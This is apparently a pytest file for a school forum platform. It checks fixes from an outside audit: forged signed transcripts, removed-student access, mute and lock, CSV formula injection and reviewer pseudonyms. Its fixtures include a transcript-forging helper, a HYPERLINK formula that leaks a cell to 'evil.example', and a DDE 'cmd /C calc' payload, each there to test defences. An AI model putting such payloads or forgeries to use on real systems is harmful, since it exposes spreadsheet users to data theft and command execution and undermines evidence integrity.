"""What an outside audit found (issue 14), as a user meets it: a forged record that the
verifier must refuse, a removed student who must lose the record, mute and lock that
must hold for every write, and spreadsheet formulas that must not run from an export."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json

from conftest import Auth, csrf_token
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from livekit import Live, sign_in

from forum import room


def sessions_of(demo: dict) -> dict[str, int]:
    by_title = {s["title"]: s for s in demo["sessions"]}
    return {
        "sealed": by_title["Plastic on our beaches"]["id"],
        "live": by_title["Our rivers and the sea"]["id"],
    }


def signed_in(app, demo: dict, role: str, school: str | None = "taipei-daan"):
    client = app.test_client()
    Auth(client, demo).login(role, school)
    return client


def run_verify(runner, *args) -> tuple[int, str]:
    result = runner.invoke(args=["forum", "verify", *map(str, args)])
    lines = result.output.strip().splitlines()
    assert lines, result.output
    return result.exit_code, lines[-1]


def pem_of(key: Ed25519PrivateKey) -> str:
    return (
        key.public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )


def forge(doc: dict, seq: int, body: str, key: Ed25519PrivateKey) -> dict:
    """The audit's forgery: change a body, recompute the chain from protocol.md, sign
    the new head with a fresh key and put that key in the file."""
    doc = json.loads(json.dumps(doc))
    doc["events"][seq - 1]["data"]["body"] = body
    sid = doc["session"]["id"]
    previous = hashlib.sha256(f"sdg-forum/{sid}".encode()).hexdigest()
    for event in doc["events"]:
        canonical = json.dumps(
            {
                "session_id": sid,
                "seq": event["seq"],
                "type": event["type"],
                "at": event["at"],
                "actor_id": event["actor_id"],
                "data": event["data"],
            },
            sort_keys=True,
            separators=(",", ":"),
            ensure_ascii=False,
        ).encode()
        previous = hashlib.sha256(bytes.fromhex(previous) + canonical).hexdigest()
        event["hash"] = previous
    doc["head_hash"] = previous
    doc["signature"] = base64.b64encode(key.sign(previous.encode("ascii"))).decode()
    doc["public_key"] = pem_of(key)
    return doc


def upload(client, data: bytes):
    token = csrf_token(client, "/review/verify")
    return client.post(
        "/review/verify",
        content_type="multipart/form-data",
        data={"csrf_token": token, "file": (io.BytesIO(data), "transcript.json")},
    )


# --- 1. the verifier trusts only known keys ---------------------------------------------


def test_a_record_re_signed_with_its_own_key_is_invalid(app, demo, runner, tmp_path):
    sealed = sessions_of(demo)["sealed"]
    reviewer = signed_in(app, demo, "reviewer")
    reviewer.get("/?lang=en")
    raw = reviewer.get(f"/sessions/{sealed}/transcript.json").get_data()
    doc = json.loads(raw)
    seq = next(e["seq"] for e in doc["events"] if e["type"] == "message.posted")
    forger = Ed25519PrivateKey.generate()
    forged = tmp_path / "forged.json"
    forged.write_text(
        json.dumps(forge(doc, seq, "We never cleaned any beach.", forger), ensure_ascii=False),
        encoding="utf-8",
    )
    platform_key = tmp_path / "platform.pem"
    platform_key.write_text(reviewer.get("/evidence/public-key").get_data(as_text=True))

    # The command line: invalid, naming the signature, with or without --public-key.
    code, line = run_verify(runner, forged)
    assert code == 1 and line.startswith("invalid") and "signature" in line, line
    code, line = run_verify(runner, forged, "--public-key", platform_key)
    assert code == 1 and line.startswith("invalid") and "signature" in line, line
    # Trusting the forger's key on purpose is the reader's choice: then it checks out.
    forger_key = tmp_path / "forger.pem"
    forger_key.write_text(pem_of(forger))
    code, line = run_verify(runner, forged, "--public-key", forger_key)
    assert code == 0 and line.startswith("valid"), line

    # The review desk: "Not valid", never "Valid" with a warning.
    response = upload(reviewer, forged.read_bytes())
    html = response.get_data(as_text=True)
    assert response.status_code == 422, html
    assert "Not valid" in html and "<h2>Valid</h2>" not in html
    assert '<code lang="en" class="wrap">invalid: signature' in html
    assert "not one this platform" in html

    # The untouched export, signed by the platform's key, stays valid everywhere.
    original = tmp_path / "original.json"
    original.write_bytes(raw)
    code, line = run_verify(runner, original)
    assert code == 0 and line.startswith("valid") and "signed by" in line, line
    assert run_verify(runner, original, "--public-key", platform_key)[0] == 0
    response = upload(reviewer, raw)
    assert response.status_code == 200 and "<h2>Valid</h2>" in response.get_data(as_text=True)
    # A live (unsealed) export is still valid and unsealed.
    live = tmp_path / "live.json"
    live.write_bytes(
        reviewer.get(f"/sessions/{sessions_of(demo)['live']}/transcript.json").get_data()
    )
    code, line = run_verify(runner, live)
    assert code == 0 and line.startswith("valid") and "not sealed" in line, line


def test_after_a_key_rotation_the_desk_still_trusts_the_platforms_old_key(
    app, demo, make_app, tmp_path
):
    sealed = sessions_of(demo)["sealed"]
    reviewer = signed_in(app, demo, "reviewer")
    raw = reviewer.get(f"/sessions/{sealed}/transcript.json").get_data()
    old_key = tmp_path / "old.pem"
    old_key.write_text(json.loads(raw)["public_key"])

    rotated = make_app(FORUM_EVIDENCE_KEY=str(tmp_path / "new_evidence_key.pem"))
    with rotated.app_context():
        from forum.room import seal

        assert seal.public_key_pem().strip() != old_key.read_text().strip()
    desk = signed_in(rotated, demo, "reviewer")
    desk.get("/?lang=en")
    response = upload(desk, raw)  # signed by a key the platform sealed with before
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "<h2>Valid</h2>" in html, html
    assert "an earlier evidence key of this platform" in html
    # The command line trusts this instance's key only, or the one it is given.
    runner = rotated.test_cli_runner()
    file = tmp_path / "before-rotation.json"
    file.write_bytes(raw)
    code, line = run_verify(runner, file)
    assert code == 1 and line.startswith("invalid") and "signature" in line, line
    code, line = run_verify(runner, file, "--public-key", old_key)
    assert code == 0 and line.startswith("valid"), line


# --- 2. a removed student loses the record -----------------------------------------------


RECORD_PATHS = (
    "/sessions/{sid}/transcript.json",
    "/sessions/{sid}/transcript.csv",
    "/sessions/{sid}/transcript.html",
    "/api/v1/sessions/{sid}/transcript",
    "/api/v1/sessions/{sid}",
    "/sessions/{sid}",
)


def test_a_removed_student_can_no_longer_read_the_session(people, app, demo):
    sid = people.live_session
    student = people.joined("tw_student")
    classmate = people.joined("tw_student2")
    teacher = people.joined("jp_teacher")
    for path in RECORD_PATHS:
        assert student.http.get(path.format(sid=sid)).status_code == 200, path
    teacher.ok("mod.remove", {"session_id": sid, "user_id": student.id})
    teacher.ok(
        "chat.send", {"session_id": sid, "client_id": "after", "body": "said after the removal"}
    )

    for path in RECORD_PATHS:
        response = student.http.get(path.format(sid=sid))
        assert response.status_code == 403, (path, response.status_code)
        assert "said after the removal" not in response.get_data(as_text=True), path
    api = student.http.get(f"/api/v1/sessions/{sid}/transcript")
    assert api.get_json()["error"]["code"] == "removed"
    listed = student.http.get("/api/v1/sessions").get_json()["sessions"]
    assert sid not in [s["id"] for s in listed]
    # Their other sessions are theirs as before.
    assert student.http.get(f"/sessions/{people.kr_session}/transcript.json").status_code == 200

    # Everyone else reads on.
    readers = [
        classmate.http,
        sign_in(app, people.users["tw_teacher"]),
        signed_in(app, demo, "reviewer"),
        signed_in(app, demo, "admin"),
    ]
    for http in readers:
        for path in RECORD_PATHS[:4]:
            response = http.get(path.format(sid=sid))
            assert response.status_code == 200, path
            assert "said after the removal" in response.get_data(as_text=True), path


# --- 3. muted and locked hold for every write ----------------------------------------


def _student_writes(sid: int, note: dict, message_id: int) -> list[tuple[str, dict]]:
    return [
        ("chat.send", {"session_id": sid, "client_id": "w1", "body": "hello?"}),
        ("chat.react", {"session_id": sid, "message_id": message_id, "emoji": "👍"}),
        ("typing", {"session_id": sid}),
        (
            "note.add",
            {"session_id": sid, "client_id": "w2", "column": "see", "text": "a note for everyone"},
        ),
        (
            "note.edit",
            {
                "session_id": sid,
                "note_id": note["id"],
                "version": note["version"],
                "text": "changed",
            },
        ),
        ("note.vote", {"session_id": sid, "note_id": note["id"]}),
        ("note.remove", {"session_id": sid, "note_id": note["id"]}),
    ]


def _setup_room(people):
    sid = people.live_session
    student = people.joined("tw_student")
    other = people.joined("jp_student")
    teacher = people.joined("jp_teacher")
    note = student.ok(
        "note.add", {"session_id": sid, "client_id": "mine", "column": "see", "text": "my own note"}
    )["event"]["data"]["note"]
    message_id = teacher.ok(
        "chat.send", {"session_id": sid, "client_id": "q", "body": "What did you find?"}
    )["event"]["data"]["message_id"]
    return sid, student, other, teacher, note, message_id


def test_a_muted_student_writes_nothing_anyone_sees(people):
    sid, student, other, teacher, note, message_id = _setup_room(people)
    teacher.ok("mod.mute", {"session_id": sid, "user_id": student.id, "minutes": 5})
    other.forget()
    for event, payload in _student_writes(sid, note, message_id):
        student.error(event, payload, "muted")
    assert other.received("event") == [] and other.received("typing") == []
    # Teachers are not held back; once unmuted, the student writes again.
    assert teacher.ok("typing", {"session_id": sid}) == {"ok": True}
    teacher.ok("mod.unmute", {"session_id": sid, "user_id": student.id})
    room.rate_limiter.forget()  # the refused tries above counted against the burst
    for event, payload in _student_writes(sid, note, message_id):
        student.ok(event, payload)


def test_a_locked_room_takes_no_student_writes(people):
    sid, student, other, teacher, note, message_id = _setup_room(people)
    teacher.ok("mod.lock", {"session_id": sid, "locked": True})
    other.forget()
    for event, payload in _student_writes(sid, note, message_id):
        student.error(event, payload, "locked")
    assert other.received("event") == [] and other.received("typing") == []
    assert teacher.ok("typing", {"session_id": sid}) == {"ok": True}
    assert other.received("typing")
    teacher.ok(
        "note.edit", {"session_id": sid, "note_id": note["id"], "version": note["version"], "x": 10}
    )


# --- 4. spreadsheet formulas do not run from an export --------------------------------

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)")
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    people, app, demo, runner, tmp_path
):
    sid = people.live_session
    class_id = next(c["id"] for c in demo["classes"] if c["school"] == "taipei-daan")
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["display_name"], [EVIL_NAME]])
    result = runner.invoke(args=["forum", "import-roster", str(class_id), str(roster), "--json"])
    assert result.exit_code == 0, result.output
    code = json.loads(result.stdout)[0]["code"]
    user = {"code": code, "display_name": EVIL_NAME, "role": "student", "school": "taipei-daan"}
    evil = Live(app, user, http=sign_in(app, user))
    evil.ok("join", {"session_id": sid})
    for i, body in enumerate(FORMULAS):
        evil.ok("chat.send", {"session_id": sid, "client_id": f"f{i}", "body": body})

    teacher = sign_in(app, people.users["tw_teacher"])
    raw = teacher.get(f"/sessions/{sid}/transcript.csv").get_data()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header = rows[0]
    mine = [r for r in rows[1:] if r[header.index("author")].endswith('click")')]
    assert [r[header.index("author")] for r in mine] == ["'" + EVIL_NAME] * len(FORMULAS)
    assert [r[header.index("body")] for r in mine] == ["'" + f for f in FORMULAS]
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row

    # The evidence keeps the exact text.
    doc = teacher.get(f"/sessions/{sid}/transcript.json").get_json()
    bodies = [e["data"]["body"] for e in doc["events"] if e["type"] == "message.posted"]
    assert bodies[-len(FORMULAS) :] == list(FORMULAS)
    assert EVIL_NAME in [a["name"] for a in doc["actors"].values()]


def test_report_csvs_neutralise_formulas_too(app, demo, runner, monkeypatch):
    from forum.evidence import report

    rows = [
        ("figure", "=cmd|' /C calc'!A0", 1),
        ("figure", "\tTAB", "-2+3"),
        ("sessions_held", "", 3),
    ]
    monkeypatch.setattr(report, "report_rows", lambda data: rows)
    result = runner.invoke(args=["forum", "report", "--year", "113", "--format", "csv"])
    assert result.exit_code == 0, result.output
    lines = list(csv.reader(io.StringIO(result.stdout)))
    assert lines[1:] == [
        ["figure", "'=cmd|' /C calc'!A0", "1"],
        ["figure", "'\tTAB", "'-2+3"],
        ["sessions_held", "", "3"],
    ]
    reviewer = signed_in(app, demo, "reviewer")
    raw = reviewer.get("/review/report?year=113&format=csv").get_data()
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[1:] == [
        ["figure", "'=cmd|' /C calc'!A0", "1"],
        ["figure", "'\tTAB", "'-2+3"],
        ["sessions_held", "", "3"],
    ]


# --- 5. reviewers read students under pseudonyms, live too ------------------------------


def _student_names(demo: dict) -> set[str]:
    return {u["display_name"] for u in demo["users"] if u["role"] == "student"}


def _names_in(value) -> set[str]:
    """Every "name" anywhere in a payload."""
    found: set[str] = set()
    if isinstance(value, dict):
        for key, item in value.items():
            if key == "name" and isinstance(item, str):
                found.add(item)
            found |= _names_in(item)
    elif isinstance(value, list):
        for item in value:
            found |= _names_in(item)
    return found


def test_a_reviewer_hears_the_live_room_under_the_records_pseudonyms(people, demo):
    """As the audit found it: a reviewer joining over /live got real student names in
    presence, in events and in join's replay. Now every path a reviewer reads live
    shows the pseudonyms the record shows, and the members still read names."""
    sid = people.live_session
    student = people.joined("tw_student")
    student.ok("chat.send", {"session_id": sid, "client_id": "p1", "body": "before"})
    reviewer = people.live("reviewer")
    ack = reviewer.ok("join", {"session_id": sid})
    teacher = people.joined("jp_teacher")
    other = people.joined("jp_student")
    other.ok("chat.send", {"session_id": sid, "client_id": "p2", "body": "after"})
    other.ok("typing", {"session_id": sid})
    teacher.ok("mod.mute", {"session_id": sid, "user_id": student.id, "minutes": 5})

    heard = {
        "replay": ack["events"],
        "presence": reviewer.received("presence"),
        "events": reviewer.received("event"),
        "typing": reviewer.received("typing"),
    }
    students = _student_names(demo)
    for path, payloads in heard.items():
        assert payloads, path
        assert not _names_in(payloads) & students, (path, _names_in(payloads) & students)
    # The numbers are the record's: the transcript says who "Student N" is.
    doc = (
        people.app.test_client()
        .get(
            f"/api/v1/sessions/{sid}/transcript",
            headers={"Authorization": f"Bearer {people.token('reviewer')}"},
        )
        .get_json()
    )
    live_names = {
        e["actor"]["id"]: e["actor"]["name"]
        for e in heard["replay"] + heard["events"]
        if e["actor"]
    }
    for uid in (student.id, other.id):
        assert live_names[uid] == doc["actors"][str(uid)]["name"], uid
    assert heard["typing"][-1]["user"]["name"] == doc["actors"][str(other.id)]["name"]
    # Members and teachers still read names.
    assert student.user["display_name"] in _names_in(teacher.received("presence"))
    assert other.user["display_name"] in _names_in(teacher.received("event"))


def test_a_teacher_may_reveal_names_to_reviewers_and_the_choice_is_kept(people, app, demo):
    """product.md: reviewers read pseudonyms "unless a teacher or admin chooses
    otherwise". A teacher of the exchange reveals a session's names to reviewers on its
    record page; the record, its exports and the live room then show names to
    reviewers; the page says who chose it and when; taking it back restores pseudonyms.
    Nobody else may choose."""
    from forum.models import NameReveal

    sid = people.live_session
    student = people.joined("tw_student")
    student.ok("chat.send", {"session_id": sid, "client_id": "r1", "body": "hello"})
    name = student.user["display_name"]
    reviewer_http = signed_in(app, demo, "reviewer", None)
    path = f"/sessions/{sid}/transcript.json"

    def reviewer_reads_names() -> bool:
        names = {a["name"] for a in reviewer_http.get(path).get_json()["actors"].values()}
        return name in names

    assert not reviewer_reads_names()
    # Only a teacher of the exchange (or an admin) may choose.
    for role, school in (("reviewer", None), ("student", "taipei-daan")):
        other = signed_in(app, demo, role, school)
        token = csrf_token(other, "/")
        response = other.post(f"/sessions/{sid}/names", data={"reveal": "1", "csrf_token": token})
        assert response.status_code in (403, 404), (role, response.status_code)
    assert not reviewer_reads_names()

    teacher = signed_in(app, demo, "teacher", "shizuoka-aoi")
    page = teacher.get(f"/sessions/{sid}/transcript.html").get_data(as_text=True)
    assert f'action="/sessions/{sid}/names"' in page
    token = csrf_token(teacher, f"/sessions/{sid}/transcript.html")
    assert teacher.post(f"/sessions/{sid}/names", data={"reveal": "1"}).status_code == 400
    response = teacher.post(f"/sessions/{sid}/names", data={"reveal": "1", "csrf_token": token})
    assert response.status_code == 302
    assert reviewer_reads_names()
    live = people.live("reviewer")
    ack = live.ok("join", {"session_id": sid})
    assert name in _names_in(ack["events"]) | _names_in(live.received("presence"))
    # Who chose, and when, is kept and shown.
    with app.app_context():
        choices = NameReveal.query.filter_by(session_id=sid).all()
        teacher_name = choices[-1].by.display_name
    assert [c.revealed for c in choices] == [True]
    assert teacher_name in reviewer_http.get(f"/sessions/{sid}/transcript.html").get_data(
        as_text=True
    )

    response = teacher.post(f"/sessions/{sid}/names", data={"reveal": "0", "csrf_token": token})
    assert response.status_code == 302
    assert not reviewer_reads_names()
    with app.app_context():
        assert [c.revealed for c in NameReveal.query.filter_by(session_id=sid)] == [True, False]
